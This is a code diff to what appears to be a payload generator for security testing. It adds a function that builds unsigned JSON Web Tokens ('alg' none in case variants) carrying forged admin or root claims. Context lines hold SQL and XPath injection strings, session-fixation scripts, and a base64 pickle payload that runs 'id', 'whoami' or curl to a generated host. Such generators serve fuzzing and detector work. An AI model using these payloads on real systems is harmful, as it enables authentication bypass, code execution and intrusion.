@@ -59,6 +59,21 @@ function javaStream(r: () => number): string {
   return form < 0.6 ? bytes.toString("base64") : form < 0.8 ? bytes.toString("base64url") : bytes.toString("hex");
 }
 
+/** base64url without padding, as JSON Web Tokens write their parts. */
+const base64url = (text: string) => Buffer.from(text).toString("base64url");
+
+/**
+ * A JSON Web Token whose header switches the signature off (`alg` none, in the spellings libraries
+ * compare loosely), with a forged claim set and an empty, kept or junk signature.
+ */
+function unsignedToken(r: () => number): string {
+  const alg = pick(r, ["none", "None", "NONE", "nOnE"]);
+  const header = pick(r, [{ alg, typ: "JWT" }, { typ: "JWT", alg }, { alg }]);
+  const claims = { sub: pick(r, ["admin", "1", letters(r)]), [pick(r, ["role", "scope", "groups", "is_admin"])]: pick(r, ["admin", "root", true, ["admin"]]), iat: 1_700_000_000 + Math.floor(r() * 1e8) };
+  const signature = pick(r, ["", "", base64url(letters(r).repeat(4))]);
+  return `${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(claims))}.${signature}`;
+}
+
 const GRAMMAR: Record<AttackClass, Gen[]> = {
   sqli: [
     (r) => `${q(r)}${space(r)}${pick(r, ["or", "OR", "oR", "||"])}${space(r)}${pick(r, ["1=1", "'a'='a", "true", "2>1", "'x' like 'x"])}${tail(r)}`,
@@ -127,6 +142,7 @@ const GRAMMAR: Record<AttackClass, Gen[]> = {
     (r) => Buffer.from(`\x80\x04c${pick(r, ["os", "posix", "subprocess"])}\n${pick(r, ["system", "popen"])}\n(S'${pick(r, ["id", "whoami", `curl ${host(r)}`])}'\ntR.`, "latin1").toString("base64"),
   ],
   xpath: [(r) => `${pick(r, ["'", '"', "x'"])} ${pick(r, ["or", "and"])} ${pick(r, ["count(/*)=1", "name(/*)='root'", "string-length(name(/*))>0", "count(//user)>0"])}${pick(r, [" or '1'='1", "", " and '1'='1"])}`],
+  "auth-bypass": [unsignedToken],
   "session-fixation": [(r) => pick(r, ["<script>document.cookie=\"sessionid=1234;\"</script>", "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=abc\">", "foo\";document.cookie='PHPSESSID=x';//"])],
 };
 
